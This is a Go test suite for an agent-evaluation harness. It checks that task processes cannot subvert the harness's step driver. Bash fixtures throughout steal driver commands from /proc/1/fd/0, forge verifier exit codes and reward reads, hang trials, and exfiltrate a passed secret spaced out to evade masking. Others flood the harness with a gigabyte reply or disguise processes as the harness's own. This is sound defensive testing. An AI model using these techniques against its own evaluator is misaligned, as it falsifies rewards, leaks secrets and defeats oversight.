//go:build hostile

package e2e

// The hostile-input suite's step-driver rows (issue #24, F1–F4): a task
// process that opens the step driver's stdin (/proc/1/fd/0), waits in a
// read before the driver does and takes the next command — its nonce and
// its environment with it — then forges its end, hangs headroom, leaks a
// secret or answers a reward read with a gigabyte. Each injects for real
// through the real binary on the real engine, in driver mode.

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// stealer is a bash function that takes the step driver's next commands
// from /proc/1/fd/0 and answers each with its end marker and the exit
// code $code, after running reply (which may set code or print);
// started five times, so that one of them waits in its read before the
// driver does. What each attempt met is appended to /tmp/dbg, which the
// verifiers print.
func stealer(reply string) string {
	return `steal() {
  exec 3</proc/1/fd/0 || { echo "stealer-open-""refused" >&2; exit 0; }
  echo "stealer-open-""granted" >&2
  for i in $(seq 1 30); do
    chunk=$(dd bs=1M count=1 status=none <&3)
    [ -n "$chunk" ] || break
    printf 'STOLEN: %.200s\n' "$chunk" >&2
    hex=$(printf '%s' "$chunk" | grep -o 'headroom-end [0-9a-f]*' | head -1 | cut -d' ' -f2)
    [ -n "$hex" ] || continue
    code=0
    ` + reply + `
    printf '\036[headroom-end %s] %s\n' "$hex" "$code"
    printf '\036[headroom-end %s] %s\n' "$hex" "$code" > /proc/1/fd/2
  done
}
for k in 1 2 3 4 5; do steal </dev/null 2>>/tmp/dbg & sleep 0.2; done
sleep 1
`
}

// driverRun runs the tasks of dir once each, uncapped, and returns the
// run, its records and the containers left.
func driverRun(t *testing.T, bin, tasks, names string, env []string, args ...string) (result, string, []map[string]any, int) {
	t.Helper()
	out := filepath.Join(filepath.Dir(tasks), "out")
	run := runBin(t, bin, env, append([]string{"run", "--tasks-dir", tasks, "--tasks", names, "--ratios", "uncapped", "--repeats", "1", "--out", out}, args...)...)
	dir, recs, left := records(t, out)
	return run, dir, recs, left
}

func trialLog(dir string) string {
	b, _ := os.ReadFile(filepath.Join(dir, "trials", "t0001", "log.txt"))
	return string(b)
}

// verifierWritesZero is the Harbor rows' tests/test.sh: it says it ran
// (the stealers' forged answers would leave that out) and writes reward 0.
const verifierWritesZero = "#!/bin/bash\necho REAL VERIFIER \"\"RAN; cat /tmp/dbg\nmkdir -p /logs/verifier\necho 0 > /logs/verifier/reward.txt\n"

// F1, a headroom task file: the agent's process takes the verifier's
// command and forges its exit 0; the real verifier (exit 1) never ran.
func TestHostileDriverForgedVerifierExit(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	os.MkdirAll(tasks, 0o755)
	task := `[task]
name = "hostile-driver/forged-exit"
[environment]
image = "headroom-debian:bookworm"
memory = "128M"
[verifier]
timeout_sec = 30
command = ["bash", "-c", "echo REAL VERIFIER \"\"RAN; cat /tmp/dbg; exit 1"]
[[agents]]
name = "oracle"
  [[agents.steps]]
  name = "solve"
  command = ["bash", "-c", '''
` + stealer("") + `
echo agent done
''']
`
	if err := os.WriteFile(filepath.Join(tasks, "forged-exit.toml"), []byte(task), 0o644); err != nil {
		t.Fatal(err)
	}
	run, dir, recs, left := driverRun(t, bin, tasks, "hostile-driver/forged-exit", nil, "--agents", "oracle")
	logs := trialLog(dir)
	forged := 0
	var outcome, runner_ string
	if len(recs) == 1 {
		outcome, runner_ = fmt.Sprint(recs[0]["outcome"]), fmt.Sprint(recs[0]["step_runner"])
	}
	if runner_ != "driver" {
		t.Errorf("step runner %q, want driver (the row tests the driver):\n%s", runner_, run.stderr)
	}
	if outcome != "failed" || !strings.Contains(logs, "REAL VERIFIER RAN") {
		forged = 1
		t.Errorf("outcome %s, the real verifier's output %v; want failed by the real verifier (exit 1):\n%s", outcome, strings.Contains(logs, "REAL VERIFIER RAN"), logs)
	}
	letoutRow(t, "F1: the agent's background processes open /proc/1/fd/0 (the step driver's stdin; headroom task file, driver mode), take the verifier's command and print its end marker with exit 0",
		fmt.Sprintf("1 trial %s (step runner %s); the real verifier's output: %v; the stealers' open: %d refused, %d granted", outcome, runner_, strings.Contains(logs, "REAL VERIFIER RAN"),
			strings.Count(logs, "stealer-open-refused"), strings.Count(logs, "stealer-open-granted")),
		1-len(recs), left, forged)
}

// F1, a Harbor task: the agent's process answers the reward read with
// "MQo=" (base64 of "1") while the verifier writes 0.
func TestHostileDriverForgedRewardRead(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	name := "hostile-driver/forged-reward"
	harborTask(t, tasks, "forged-reward", name, map[string]string{
		"solution/solve.sh": "#!/bin/bash\n" + stealer(`case "$chunk" in
      *reward.json*'"op":"read"'*) code=44 ;;
      *'"op":"read"'*) printf 'MQo=\n' ;;
    esac`),
		"tests/test.sh": verifierWritesZero,
	})
	t.Cleanup(func() { removeTaskImages(t, name) })
	run, dir, recs, left := driverRun(t, bin, tasks, name, nil, "--agents", "oracle")
	logs := trialLog(dir)
	forged := 0
	var outcome, reward, runner_ string
	if len(recs) == 1 {
		outcome, reward, runner_ = fmt.Sprint(recs[0]["outcome"]), fmt.Sprint(recs[0]["reward"]), fmt.Sprint(recs[0]["step_runner"])
	}
	if runner_ != "driver" {
		t.Errorf("step runner %q, want driver:\n%s", runner_, run.stderr)
	}
	if outcome != "failed" || reward != "0" {
		forged = 1
		t.Errorf("outcome %s, reward %s; the verifier wrote 0:\n%s", outcome, reward, logs)
	}
	letoutRow(t, "F1: the agent's processes (Harbor task) take the reward read's command from /proc/1/fd/0 and answer `MQo=` (base64 of 1) while test.sh writes 0",
		fmt.Sprintf("1 trial %s, reward %s (step runner %s); the stealers' open: %d refused, %d granted", outcome, reward, runner_,
			strings.Count(logs, "stealer-open-refused"), strings.Count(logs, "stealer-open-granted")),
		1-len(recs), left, forged)
}

// F2: a process that takes one command (clearing the reward files) and
// never answers held the trial past every time limit.
func TestHostileDriverStolenCommandHangs(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	name := "hostile-driver/hang"
	harborTask(t, tasks, "hang", name, map[string]string{
		"task.toml":         fmt.Sprintf("schema_version = \"1.1\"\n[task]\nname = %q\n[verifier]\ntimeout_sec = 10.0\n[agent]\ntimeout_sec = 10.0\n[environment]\nmemory_mb = 128\n", name),
		"solution/solve.sh": "#!/bin/bash\nfor k in 1 2 3 4 5; do (exec 3</proc/1/fd/0 || exit 0; dd bs=1M count=1 status=none <&3 >/dev/null; sleep infinity) </dev/null >/dev/null 2>&1 & done\nsleep 1\n",
		"tests/test.sh":     "#!/bin/bash\necho REAL VERIFIER \"\"RAN\nmkdir -p /logs/verifier\necho 0 > /logs/verifier/reward.txt\n",
	})
	t.Cleanup(func() { removeTaskImages(t, name) })
	out := filepath.Join(root, "out")
	l := startLive(t, bin, "run", "--tasks-dir", tasks, "--tasks", name, "--agents", "oracle", "--ratios", "uncapped", "--repeats", "1", "--out", out)
	// The trial's own limits are 10 s + 10 s, the bound on headroom's own
	// operations 30 s; the image build comes first.
	lost, took := 0, ""
	start := time.Now()
	select {
	case <-l.done:
		took = time.Since(start).Round(time.Second).String()
	case <-time.After(4 * time.Minute):
		lost, took = 1, "still running after 4m0s (stopped by the test)"
		t.Errorf("the run still ran 4 min after it started:\n%s", l.stderr())
	}
	var got string
	if lost == 0 {
		_, recs, _ := records(t, out)
		if len(recs) != 1 {
			lost = 1 - len(recs)
		} else {
			got = fmt.Sprintf("%v (%v)", recs[0]["outcome"], recs[0]["reason"])
		}
	}
	letoutRow(t, "F2: the agent's processes take one command from /proc/1/fd/0 (the one that clears the reward files) and never answer; 10 s agent and verifier limits",
		fmt.Sprintf("the run ended in %s: 1 trial %s", took, got), lost, 0, 0)
}

// F3: a --pass-env secret in the agent command's JSON read off the
// driver's stdin by a healthcheck (the engine's exec, not a step) and
// written, spaced out, on the driver's stdout.
func TestHostileDriverSecretFromTheCommand(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	name := "hostile-driver/keysteal"
	grab := `#!/bin/bash
[ -e /tmp/started ] && exit 0
touch /tmp/started
grab() {
  exec 3</proc/1/fd/0 || { echo "stealer-open-""refused" >> /tmp/dbg; exit 0; }
  for i in 1 2 3 4 5 6; do
    chunk=$(dd bs=1M count=1 status=none <&3)
    hex=$(printf '%s' "$chunk" | grep -o 'headroom-end [0-9a-f]*' | head -1 | cut -d' ' -f2)
    printf '%s' "$chunk" | grep -o 'HOSTILE_TOKEN=[^"]*' | sed 's/./&-/g; s/^/SPACED: /' > /proc/1/fd/1
    printf '\036[headroom-end %s] 0\n' "$hex" > /proc/1/fd/1
    printf '\036[headroom-end %s] 0\n' "$hex" > /proc/1/fd/2
  done
}
for k in 1 2 3 4 5 6; do grab </dev/null >/dev/null 2>&1 & sleep 0.1; done
exit 0
`
	harborTask(t, tasks, "keysteal", name, map[string]string{
		"task.toml":              fmt.Sprintf("schema_version = \"1.1\"\n[task]\nname = %q\n[agent]\ntimeout_sec = 60.0\n[verifier]\ntimeout_sec = 30.0\n[environment]\nmemory_mb = 128\n[environment.healthcheck]\ncommand = \"/usr/local/bin/grab.sh\"\ninterval_sec = 1.0\nretries = 3\n", name),
		"environment/grab.sh":    grab,
		"environment/Dockerfile": "FROM headroom-debian:bookworm\nCOPY grab.sh /usr/local/bin/grab.sh\n",
		"tests/test.sh":          "#!/bin/bash\ncat /tmp/dbg\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt\n",
	})
	t.Cleanup(func() { removeTaskImages(t, name) })
	token := "hostile" + randomHex(12)
	run, dir, recs, left := driverRun(t, bin, tasks, name, []string{"HOSTILE_TOKEN=" + token},
		"--agents", "command", "--agent-command", "sleep 6; echo agent done", "--pass-env", "HOSTILE_TOKEN")
	spaced := strings.Join(strings.Split(token, ""), "-")
	texts := []map[string]string{experimentFiles(t, filepath.Dir(dir)), {"run stdout": run.stdout, "run stderr": run.stderr}}
	leaked, where := countIn(spaced, texts...)
	if n, w := countIn(token, texts...); n > 0 {
		leaked, where = leaked+n, append(where, w...)
	}
	if leaked > 0 {
		t.Errorf("the secret, spaced out or whole, is in %v", where)
	}
	var outcome, runner_ string
	if len(recs) == 1 {
		outcome, runner_ = fmt.Sprint(recs[0]["outcome"]), fmt.Sprint(recs[0]["step_runner"])
	}
	if runner_ != "driver" {
		t.Errorf("step runner %q, want driver:\n%s", runner_, run.stderr)
	}
	logs := trialLog(dir)
	letoutRow(t, "F3: a healthcheck (the engine's exec) opens /proc/1/fd/0 and writes the agent command's `--pass-env` value, spaced out (so masking misses it), on /proc/1/fd/1",
		fmt.Sprintf("1 trial %s (step runner %s); the healthcheck's open refused (%d in the verifier's output); the secret, spaced or whole, in %d file(s) or stream(s)", outcome, runner_, strings.Count(logs, "stealer-open-refused"), leaked),
		1-len(recs), leaked+left, 0)
}

// F4: a stolen reward read answered with a gigabyte: headroom kept it all
// (RSS 37 → 448 MB) and recorded the engine lost.
func TestHostileDriverGigabyteReply(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	name := "hostile-driver/bloat"
	harborTask(t, tasks, "bloat", name, map[string]string{
		"solution/solve.sh": "#!/bin/bash\n" + stealer(`case "$chunk" in
      *reward.json*'"op":"read"'*) code=44 ;;
      *'"op":"read"'*) yes AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA | head -c 1000000000; echo ;;
    esac`),
		"tests/test.sh": verifierWritesZero,
	})
	t.Cleanup(func() { removeTaskImages(t, name) })
	run, _, recs, left := driverRun(t, bin, tasks, name, nil, "--agents", "oracle")
	var outcome, cause, reason string
	if len(recs) == 1 {
		outcome, cause, reason = fmt.Sprint(recs[0]["outcome"]), fmt.Sprint(recs[0]["cause"]), fmt.Sprint(recs[0]["reason"])
	}
	forged := 0
	if outcome != "failed" || cause == "engine-lost" {
		forged = 1 // the task's own act excused as the engine's
		t.Errorf("outcome %s, cause %s (%s); want the task's failure", outcome, cause, reason)
	}
	rssMB := run.maxRSSKiB / 1024
	if rssMB > 250 {
		t.Errorf("headroom's peak RSS %d MiB: the reply was kept", rssMB)
	}
	letoutRow(t, "F4: the agent's processes take the reward read's command and answer it with 1 GB (`yes AAAA… | head -c 1000000000`)",
		fmt.Sprintf("1 trial %s (cause %s: %.160s); headroom's peak RSS %d MiB", outcome, cause, reason, rssMB),
		1-len(recs), left, forged)
}

// F11: processes of the task renamed as headroom's own (`exec -a`) and
// OOM-killed: one named `/.headroom/hr-workload drive` was recorded as
// "(headroom step driver)", one named `hr-workload run --step install
// --profile {}` as the install step's command. Each is named as itself.
func TestHostileDriverImpostorNames(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	os.MkdirAll(tasks, 0o755)
	task := `[task]
name = "hostile-driver/impostors"
[environment]
image = "headroom-debian:bookworm"
memory = "64M"
[verifier]
command = ["sh", "-c", "exit 0"]
[[agents]]
name = "oracle"
  [[agents.steps]]
  name = "install"
  command = ["bash", "-c", "(exec -a 'hr-workload run --step install --profile {}' dd if=/dev/zero of=/dev/null bs=300M count=1); (exec -a '/.headroom/hr-workload drive' dd if=/dev/zero of=/dev/null bs=300M count=1); echo done"]
`
	if err := os.WriteFile(filepath.Join(tasks, "impostors.toml"), []byte(task), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(root, "out")
	run := runBin(t, bin, nil, oracleArgs(tasks, "hostile-driver/impostors", out)...)
	_, recs, left := records(t, out)
	forged := 0
	var named []string
	if len(recs) == 1 {
		if r := fmt.Sprint(recs[0]["step_runner"]); r != "driver" {
			t.Errorf("step runner %q, want driver:\n%s", r, run.stderr)
		}
		ooms, _ := recs[0]["ooms"].([]any)
		for _, o := range ooms {
			m, _ := o.(map[string]any)
			cmd := fmt.Sprint(m["command"])
			named = append(named, fmt.Sprintf("%q", cmd))
			if cmd == "(headroom step driver)" || strings.HasPrefix(cmd, "bash -c") {
				forged++ // named as headroom's driver, or as the step's command
				t.Errorf("a kill of an impostor is named %q", cmd)
			}
		}
		if len(ooms) < 2 {
			t.Errorf("%d kill(s) recorded, want 2: %v", len(ooms), recs[0]["reason"])
		}
	}
	letoutRow(t, "F11: a step's processes renamed (`exec -a`) `hr-workload run --step install --profile {}` and `/.headroom/hr-workload drive`, each OOM-killed at a 64 MiB limit (`dd bs=300M`)",
		fmt.Sprintf("1 trial %v; the kills named %s", recs[0]["outcome"], strings.Join(named, ", ")), 1-len(recs), left, forged)
}
